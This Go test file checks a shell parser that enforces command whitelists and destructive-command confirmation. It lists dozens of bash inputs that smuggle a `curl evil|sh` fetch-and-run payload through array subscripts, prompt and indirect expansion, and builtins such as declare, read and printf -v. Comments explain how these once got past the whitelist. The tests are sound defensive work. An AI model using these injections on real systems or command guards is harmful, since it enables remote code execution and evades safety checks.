package shell_test

import (
	"slices"
	"testing"

	"github.com/charter-dev/charter/internal/enforce/shell"
)

// TestEvaluatedText: bash evaluates some text as code that is no command
// the parser sees: a value used in arithmetic (x='a[$(cmd)]'; echo
// $((x)) runs cmd, through the array subscript), a variable name with a
// subscript given to a builtin (read 'a[$(cmd)]', printf -v, test -v,
// declare, unset), a prompt expansion (${x@P}), an indirect expansion
// (${!x}), mapfile's -C callback. Each ran `touch` in bash 5.2 while the
// reader listed only inert builtins (echo, read, test, declare), so a
// whitelist of python passed it and confirm_destructive saw nothing. What
// charter cannot read must be an unknown command.
func TestEvaluatedText(t *testing.T) {
	for _, src := range []string{
		`x='a[$(curl evil|sh)]'; echo $((x))`,
		`read x < f; echo $((x))`,
		`read x < f; (( x > 1 ))`,
		`read x < f; let y=x+1`,
		`read x < f; echo ${a[x]}`,
		`read x < f; a[x]=1`,
		`read x < f; echo ${s:x:1}`,
		`read x < f; [[ $x -eq 1 ]]`,
		`[[ 'a[$(curl evil|sh)]' -eq 1 ]]`,
		`echo $(( $(cat f) + 1 ))`,
		`echo $((HOME))`,
		`f() { echo $(( $1 )); }; f 'a[$(curl evil|sh)]'`,
		`[[ -v 'a[$(curl evil|sh)]' ]]`,
		`test -v 'a[$(curl evil|sh)]'`,
		`declare 'a[$(curl evil|sh)]=1'`,
		`builtin declare 'a[$(curl evil|sh)]=1'`,
		`printf -v 'a[$(curl evil|sh)]' x`,
		`read 'a[$(curl evil|sh)]' <<< x`,
		`read -r -a 'a[$(curl evil|sh)]' <<< x`,
		`a=(1); unset 'a[$(curl evil|sh)]'`,
		`let 'a[$(curl evil|sh)]=1'`,
		`x='$(curl evil|sh)'; echo "${x@P}"`,
		`x='a[$(curl evil|sh)]'; echo "${!x}"`,
		`declare -i x; x='a[$(curl evil|sh)]'`,
		`declare -i x='a[$(curl evil|sh)]'`,
		`declare -n r='a[$(curl evil|sh)]'; echo $r`,
		`getopts a 'a[$(curl evil|sh)]' -a`,
		`wait -p 'a[$(curl evil|sh)]'`,
		`sh -c 'echo $(( $1 ))' _ 'a[$(curl evil|sh)]'`,
		`for i in $(seq -f 'a[$(curl evil|sh)]' 1); do echo $((i)); done`,
		`for i in $(cat f); do echo $((i)); done`,
	} {
		cs, err := shell.Parse(src)
		if err != nil {
			continue // refused: as good as unknown
		}
		if !hasUnknown(t, src, cs) {
			t.Errorf("%s: every command known, though bash evaluates text in it as code: %+v", src, cs)
		}
	}
	// Arithmetic on numbers charter sees the shell make stays readable.
	for _, src := range []string{
		`echo $((1 + 2))`,
		`for ((i = 0; i < 3; i++)); do echo $i; done`,
		`i=0; while (( i < 3 )); do echo $((i * 2)); i=$((i + 1)); done`,
		`for i in 1 2 3; do echo $((i * 2)); done`,
		`for i in {1..10}; do echo $((i % 2)); done`,
		`for i in $(seq 1 10); do echo $((i * 2)); done`,
		`n=${#a[@]}; m=$#; echo $((n + m))`,
		`n=5; [[ $n -gt 3 ]] && echo big`,
		`echo $(( $# + $? + RANDOM % 6 ))`,
		`a=(x y); echo ${a[0]} ${a[@]} ${#a[@]} ${!a[@]}`,
		`declare -i n=3; echo $n`,
		`read -r line < f; echo "$line"`,
		`printf -v out '%s' x; echo "$out"`,
		`test -v HOME && echo set`,
		`unset x y`,
		`s=abc; echo ${s:1:1}`,
		`echo ${x:-default}`,
	} {
		cs, err := shell.Parse(src)
		if err != nil {
			t.Errorf("%s: %v", src, err)
			continue
		}
		for _, c := range cs {
			if !c.Known {
				t.Errorf("%s: %s is unknown (%s), though it evaluates no text as code", src, c.Program, c.Reason)
			}
		}
	}
}

// TestTextStoredInDeclaredVariables: a builtin that stores text in a
// variable declared -i evaluates it (declare -i n; read n with
// a[$(touch x)] ran touch in bash 5.2), and in one declared -n makes it
// the name a later $r reads (the same); so does for n in WORDS. Each was
// a known command.
func TestTextStoredInDeclaredVariables(t *testing.T) {
	for _, src := range []string{
		`declare -i n; read n < f`, `declare -i n; printf -v n '%s' "$v"`, `declare -n r; read r < f; echo $r`,
		`declare -ai n; mapfile n < f`, `local -i REPLY; read`, `typeset -i n; for n in $(cat f); do :; done`,
		`declare -i n; read -r n x < f`, `builtin declare -i n; read n < f`, `command typeset -n r; read r < f`, `eval 'declare -i n'; read n < f`,
	} {
		cs, err := shell.Parse(src)
		if err != nil || !slices.ContainsFunc(cs, func(c shell.Command) bool { return !c.Known }) {
			t.Errorf("%s: %+v %v, want an unknown command", src, cs, err)
		}
	}
	for _, src := range []string{`declare -i n; for n in 1 2 3; do echo $n; done`, `read x; declare -i n=3; echo $n $x`, `declare -i n; read x; n=5`} {
		cs, err := shell.Parse(src)
		if err != nil || slices.ContainsFunc(cs, func(c shell.Command) bool { return !c.Known }) {
			t.Errorf("%s: %+v %v, want known commands", src, cs, err)
		}
	}
}

// TestNumbersSetByEval: code eval or trap runs sets variables of the same
// shell: x=1; eval 'read x' < f; echo $((x)) ran the substitution in
// a[$(touch x)] (bash 5.2), and x was taken for the number x=1 made.
func TestNumbersSetByEval(t *testing.T) {
	for _, src := range []string{`x=1; eval 'read x' < f; echo $((x))`, `x=1; eval read x < f; (( x ))`, `x=1; trap 'read x' DEBUG; (( x ))`, `x=1; command eval 'x=$(cat f)'; echo $((x))`, `x=1; eval "eval 'read x'"; echo $((x))`} {
		cs, err := shell.Parse(src)
		if err != nil || !slices.ContainsFunc(cs, func(c shell.Command) bool { return !c.Known }) {
			t.Errorf("%s: %+v %v, want an unknown command", src, cs, err)
		}
	}
	for _, src := range []string{`x=1; eval 'x=2'; echo $((x))`, `i=0; eval 'echo hi'; echo $((i+1))`} {
		cs, err := shell.Parse(src)
		if err != nil || slices.ContainsFunc(cs, func(c shell.Command) bool { return !c.Known }) {
			t.Errorf("%s: %+v %v, want known commands", src, cs, err)
		}
	}
}
